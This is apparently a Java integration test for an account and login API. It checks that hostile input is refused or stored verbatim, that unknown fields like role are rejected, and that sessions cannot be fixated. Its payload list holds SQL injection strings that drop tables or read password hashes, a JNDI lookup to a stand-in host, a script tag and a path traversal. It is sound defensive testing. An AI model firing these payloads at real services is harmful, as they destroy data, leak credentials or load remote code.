package dev.latchkey.account;

import static dev.latchkey.testing.Api.json;
import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;

import dev.latchkey.testing.Api;
import dev.latchkey.testing.Api.Tokens;
import dev.latchkey.testing.Api.User;
import dev.latchkey.testing.Life;
import dev.latchkey.testing.Rows;
import dev.latchkey.testing.Surroundings;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import io.restassured.response.Response;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Whatever is written into a field is text, and a field that is not ours is refused. */
@QuarkusTest
@Tag("slow")
@WithTestResource(Surroundings.class)
class HostileInputTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "' OR '1'='1",
                "' or 1=1 --",
                "admin'--",
                "'; DROP TABLE account; --",
                "\"",
                "\\",
                "%",
                "_",
                "%@example.org",
                "user-____________________________________@example.org",
                "' UNION SELECT password_hash FROM account --",
                "${jndi:ldap://evil.example/a}",
                "{link}",
                "<script>alert(1)</script>",
                "../../etc/passwd",
            })
    void noTextInAnyFieldOpensOrBreaksAnything(String hostile) {
        User user = Api.confirmedUser();
        Set<Object> accounts = Rows.ids("account");
        Set<Object> sessions = Rows.ids("session");
        assertThat(attacks(user, hostile).map(Response::statusCode)).containsOnlyElementsOf(List.of(400, 401));
        assertThat(accounts).containsAll(Rows.ids("account"));
        assertThat(sessions).containsAll(Rows.ids("session"));
        user.login();
    }

    private static Stream<Response> attacks(User user, String hostile) {
        return Stream.of(
                Api.login(hostile, user.password()),
                Api.login(user.email(), hostile),
                Api.refresh(hostile),
                Api.refresh("nonsense", hostile),
                Api.profile(hostile),
                json(Map.of("token", hostile)).post("/verify"),
                json(Map.of("challenge", hostile, "code", hostile)).post("/login/totp"),
                json(Map.of("email", user.email(), "password", "wrong password"))
                        .header("latchkey-device", hostile)
                        .cookie("__Host-latchkey-device", hostile)
                        .post("/login"),
                json(Map.of("email", hostile, "password", "short")).post("/register"),
                json(Map.of("email", user.email(), "password", "wrong password", "device", hostile))
                        .header("User-Agent", hostile)
                        .post("/login"));
    }

    /** In UTF-8 a question mark would stand for each, so that one would do for another. */
    @Test
    void halfACharacterIsNobodysPassword() {
        User user = new User(Api.newAddress(), "a long ? password");
        Life.register(user.email(), user.password()).then().statusCode(202);
        user.confirm();
        user.login();
        String half = "a long \ud83d password";
        json(escaped(Map.of("email", user.email(), "password", half)))
                .post("/login")
                .then()
                .statusCode(401)
                .body("code", equalTo("invalid_credentials"));
        json(escaped(Map.of("email", Api.newAddress(), "password", half)))
                .post("/register")
                .then()
                .statusCode(400)
                .body("fields.size()", equalTo(1))
                .body("fields.password", equalTo("비밀번호는 정해진 최소 길이 이상, 256자 이하여야 합니다."));
    }

    @Test
    void aNameADeviceAndAUserAgentAreKeptAsTheyAre() {
        String name = "Robert'); DROP TABLE account; -- \" \\ %_ ${x} {link} <b>";
        User user = signedUp(name);
        Tokens tokens = Tokens.of(json(Map.of("email", user.email(), "password", user.password(), "device", name))
                .header("User-Agent", name)
                .post("/login"));
        Api.profile(tokens.access()).then().statusCode(200).body("name", equalTo(name));
        Object[] session = (Object[]) Rows.value("""
                select s.device, s.user_agent from session s join account a on a.id = s.account_id
                where a.email = ?1""", user.email());
        assertThat(session).containsExactly(name, name);
    }

    @Test
    void aHundredCharactersAreAHundredInAnyScript() {
        String name = "😀".repeat(100);
        User user = signedUp(name);
        Tokens tokens = Tokens.of(json(Map.of("email", user.email(), "password", user.password(), "device", name))
                .post("/login"));
        Api.profile(tokens.access()).then().statusCode(200).body("name", equalTo(name));
        register(Map.of("email", Api.newAddress(), "name", name + "x"))
                .then()
                .statusCode(400)
                .body("fields.name", equalTo("이름은 100자 이하이며 제어 문자를 포함할 수 없습니다."));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "a\nb", "a\rb", "a\u0000b", "a\u007fb", "a\u0085b", "a\ud800b"})
    void aNameHoldsNothingThatIsNoCharacter(String name) {
        String email = Api.newAddress();
        json(escaped(Map.of("email", email, "password", "a long enough password", "name", name)))
                .post("/register")
                .then()
                .statusCode(400)
                .body("code", equalTo("invalid_request"));
        assertThat(Rows.value("select count(*) from account where email = ?1", email))
                .isEqualTo(0L);
    }

    @ParameterizedTest
    @CsvSource({
        "role,admin",
        "roles,admin",
        "groups,admin",
        "verified,true",
        "email_verified,true",
        "emailVerified,true",
        "verified_at,2026-01-01T00:00:00Z",
        "id,01890000-0000-7000-8000-000000000000",
        "tenant,other",
        "created_at,2020-01-01T00:00:00Z",
        "createdAt,2020-01-01T00:00:00Z",
        "password_hash,x",
        "language,en",
        "__proto__,x",
    })
    void nobodySignsUpWithAFieldThatIsNotTheirs(String field, String value) {
        String email = Api.newAddress();
        register(Map.of("email", email, field, value))
                .then()
                .statusCode(400)
                .body("code", equalTo("invalid_request"))
                .body("fields." + field, equalTo("알 수 없는 항목이거나 형식이 올바르지 않습니다."));
        assertThat(Rows.value("select count(*) from account where email = ?1", email))
                .isEqualTo(0L);
    }

    @Test
    void aLoginOpensASessionOfItsOwnWhateverSessionItBrings() {
        User user = Api.confirmedUser();
        Tokens old = user.login();
        Response answer = json(Map.of("email", user.email(), "password", user.password()))
                .cookie("__Host-latchkey", old.refresh())
                .cookie("sid", sessionOf(old))
                .header("Authorization", "Bearer " + old.access())
                .queryParam("sid", sessionOf(old))
                .post("/login");
        assertThat(sessionOf(Tokens.of(answer))).isNotEqualTo(sessionOf(old));
        old.renew();
    }

    @Test
    void nobodyChoosesTheIdOfTheirSession() {
        User user = Api.confirmedUser();
        json(Map.of("email", user.email(), "password", user.password(), "sid", "01890000-0000-7000-8000-000000000000"))
                .post("/login")
                .then()
                .statusCode(400)
                .body("code", equalTo("invalid_request"));
    }

    @Test
    void credentialsInTheAddressOrInABasicHeaderAreNotRead() {
        User user = Api.confirmedUser();
        given().queryParam("email", user.email())
                .queryParam("password", user.password())
                .get("/login")
                .then()
                .statusCode(405);
        json("{}")
                .auth()
                .preemptive()
                .basic(user.email(), user.password())
                .post("/login")
                .then()
                .statusCode(400);
        given().queryParam("access_token", user.login().access())
                .get("/profile")
                .then()
                .statusCode(401);
    }

    private static String sessionOf(Tokens tokens) {
        byte[] claims = Base64.getUrlDecoder().decode(tokens.access().split("\\.")[1]);
        return JsonPath.from(new String(claims, StandardCharsets.UTF_8)).getString("sid");
    }

    private static User signedUp(String name) {
        User user = new User(Api.newAddress(), "a long enough password");
        register(Map.of("email", user.email(), "name", name)).then().statusCode(202);
        user.confirm();
        return user;
    }

    /** JSON in ASCII, which can hold what UTF-8 cannot. */
    private static String escaped(Map<String, String> fields) {
        return fields.entrySet().stream()
                .map(field -> "\"" + field.getKey() + "\":\"" + escaped(field.getValue()) + "\"")
                .collect(Collectors.joining(",", "{", "}"));
    }

    private static String escaped(String text) {
        return text.chars().mapToObj("\\u%04x"::formatted).collect(Collectors.joining());
    }

    private static Response register(Map<String, String> fields) {
        Map<String, String> body = new HashMap<>(fields);
        body.putIfAbsent("password", "a long enough password");
        return json(body).post("/register");
    }
}
